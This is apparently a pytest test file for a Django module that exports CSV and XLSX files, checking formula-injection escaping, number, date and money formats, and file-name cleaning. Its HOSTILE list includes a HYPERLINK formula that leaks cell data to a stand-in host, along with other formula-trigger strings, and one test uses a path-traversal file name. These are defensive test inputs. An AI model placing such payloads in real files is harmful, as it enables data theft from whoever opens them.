"""The one writer of CSV and XLSX exports: typed text never becomes a formula, numbers stay
numbers, dates stay dates, amounts carry a money format, and the file opens as Excel in
fr-CA expects it (or, for programs, as plain CSV)."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy, override
from openpyxl import load_workbook

from members.documents.exports import (
    Money,
    attachment_header,
    csv_bytes,
    csv_response,
    export_response,
    safe_cell,
    xlsx_bytes,
    xlsx_response,
)

HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"clic")', "+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(content: bytes):
    return load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_is_prefixed_with_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-2, 0, 3.5, Decimal("-1500.25"), None, "Table A", "a=b", "x-1"])
def test_numbers_and_harmless_text_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_a_lazy_translation_is_written_as_its_text():
    with override("en"):
        assert safe_cell(gettext_lazy("Status")) == "Status"


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_writes_hostile_text_as_text(text):
    rows = read_csv(csv_bytes(["Title"], [[text]]))
    assert rows[1] == ["'" + text]


def test_csv_writes_negative_numbers_as_numbers():
    rows = read_csv(csv_bytes(["Amount", "Delta"], [[Decimal("-1500.25"), -2]]))
    assert rows[1] == ["-1500,25", "-2"]


def test_csv_starts_with_a_byte_order_mark_and_separates_cells_with_semicolons():
    content = csv_bytes(["Région", "Montant"], [["Montréal", 12]])
    assert content.startswith("\ufeff".encode())
    assert content.decode("utf-8-sig").splitlines() == ["Région;Montant", "Montréal;12"]


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_writes_hostile_text_as_a_string_cell(text):
    cell = read_xlsx(xlsx_bytes(["Title"], [[text]], sheet_title="t")).cell(row=2, column=1)
    # An XML parser reads a carriage return back as a line feed.
    assert (cell.value, cell.data_type) == (("'" + text).replace("\r", "\n"), "s")


def test_xlsx_writes_numbers_as_number_cells():
    sheet = read_xlsx(xlsx_bytes(["a", "b", "c"], [[-2, Decimal("-1500.25"), 3.5]], sheet_title="t"))
    cells = [sheet.cell(row=2, column=column) for column in (1, 2, 3)]
    assert [(c.value, c.data_type) for c in cells] == [(-2, "n"), (-1500.25, "n"), (3.5, "n")]


def test_xlsx_drops_control_characters_xml_cannot_hold_then_checks_for_a_formula():
    sheet = read_xlsx(xlsx_bytes(["Title"], [["\x01=1+1\x0b"]], sheet_title="t"))
    assert sheet.cell(row=2, column=1).value == "'=1+1"


def test_xlsx_sheet_title_is_cut_to_what_excel_accepts():
    assert read_xlsx(xlsx_bytes(["a"], [], sheet_title="x" * 40)).title == "x" * 31


def test_xlsx_has_a_bold_frozen_header_and_the_columns_widths():
    sheet = read_xlsx(xlsx_bytes(["a", "b"], [[1, 2]], sheet_title="t", column_widths=(12, 30)))
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (12, 30)


def test_the_file_name_is_reduced_to_a_plain_name():
    assert attachment_header('../plan "2025".csv') == 'attachment; filename="plan_2025.csv"'


def test_a_non_ascii_file_name_is_encoded():
    assert attachment_header("procès-verbal.csv") == "attachment; filename*=utf-8''proc%C3%A8s-verbal.csv"


def test_csv_response_is_an_attachment_of_type_csv():
    response = csv_response("financement-2025-01-31.csv", ["a"], [["=1"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="financement-2025-01-31.csv"'


def test_xlsx_response_is_an_attachment_of_type_xlsx():
    response = xlsx_response("financement-2025-01-31.xlsx", ["a"], [["=1"]], sheet_title="projets")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="financement-2025-01-31.xlsx"'


# Typed cells ------------------------------------------------------------------------------


def test_csv_for_a_spreadsheet_writes_amounts_with_a_decimal_comma_and_dates_as_iso():
    # given an amount, a plain number and a date
    content = csv_bytes(["Montant", "Note", "Date"], [[Money("1234.5"), 3.25, date(2026, 1, 1)]])
    # then the cells are `;`-separated, with a decimal comma and no grouping of thousands
    assert content.decode("utf-8-sig").splitlines()[1] == "1234,50;3,25;2026-01-01"


def test_csv_for_a_program_uses_commas_and_a_decimal_point_without_a_byte_order_mark():
    content = csv_bytes(["Montant", "Date"], [[Money("1234.5"), date(2026, 1, 1)]], machine=True)
    assert not content.startswith("\ufeff".encode())
    assert content.decode("utf-8").splitlines() == ["Montant,Date", "1234.50,2026-01-01"]


def test_csv_writes_a_datetime_in_local_time():
    moment = datetime(2026, 1, 1, 14, 30, tzinfo=UTC)
    assert read_csv(csv_bytes(["Quand"], [[moment]]))[1] == ["2026-01-01 09:30"]


def test_a_formula_stays_text_in_the_csv_for_programs():
    content = csv_bytes(["Title"], [["=1+1"]], machine=True)
    assert content.decode("utf-8").splitlines()[1] == "'=1+1"


def test_xlsx_writes_dates_as_date_cells():
    sheet = read_xlsx(xlsx_bytes(["Début"], [[date(2026, 3, 1)]], sheet_title="t"))
    cell = sheet.cell(row=2, column=1)
    assert (cell.value, cell.is_date, cell.number_format) == (datetime(2026, 3, 1), True, "yyyy-mm-dd")


def test_xlsx_writes_a_datetime_in_local_time_without_a_time_zone():
    moment = datetime(2026, 1, 1, 14, 30, tzinfo=UTC)
    cell = read_xlsx(xlsx_bytes(["Quand"], [[moment]], sheet_title="t")).cell(row=2, column=1)
    assert (cell.value, cell.is_date) == (datetime(2026, 1, 1, 9, 30), True)


@pytest.mark.parametrize(("language", "number_format"), [("fr-ca", "#,##0.00 $"), ("en", "$#,##0.00")])
def test_xlsx_writes_amounts_as_numbers_with_the_languages_money_format(language, number_format):
    with override(language):
        content = xlsx_bytes(["Montant", "Nombre"], [[Money("1234.5"), Decimal("2.5")]], sheet_title="t")
    amount, plain = read_xlsx(content)[2]
    assert (amount.value, amount.data_type, amount.number_format) == (1234.5, "n", number_format)
    assert (plain.value, plain.number_format) == (2.5, "General")


def test_xlsx_has_a_filter_on_the_header_and_the_rows():
    sheet = read_xlsx(xlsx_bytes(["a", "b", "c"], [[1, 2, 3], [4, 5, 6]], sheet_title="t"))
    assert sheet.auto_filter.ref == "A1:C3"


def test_xlsx_guesses_column_widths_from_the_content_when_none_are_given():
    sheet = read_xlsx(xlsx_bytes(["a", "b"], [["x" * 30, "y"]], sheet_title="t"))
    assert sheet.column_dimensions["A"].width == 32
    assert sheet.column_dimensions["B"].width == 8


@pytest.mark.parametrize(
    ("export_format", "content_type", "file_name"),
    [
        (None, "text/csv; charset=utf-8", "dons.csv"),
        ("csv", "text/csv; charset=utf-8", "dons.csv"),
        ("csv-machine", "text/csv; charset=utf-8", "dons.csv"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "dons.xlsx"),
    ],
)
def test_export_response_answers_in_the_format_asked(export_format, content_type, file_name):
    response = export_response(export_format, "dons", ["a"], [[Money(1)]], sheet_title="dons")
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="{file_name}"'


def test_export_response_writes_the_machine_variant_with_commas():
    response = export_response("csv-machine", "dons", ["a", "b"], [[Money(1), 2]], sheet_title="dons")
    assert response.content.decode("utf-8").splitlines() == ["a,b", "1.00,2"]
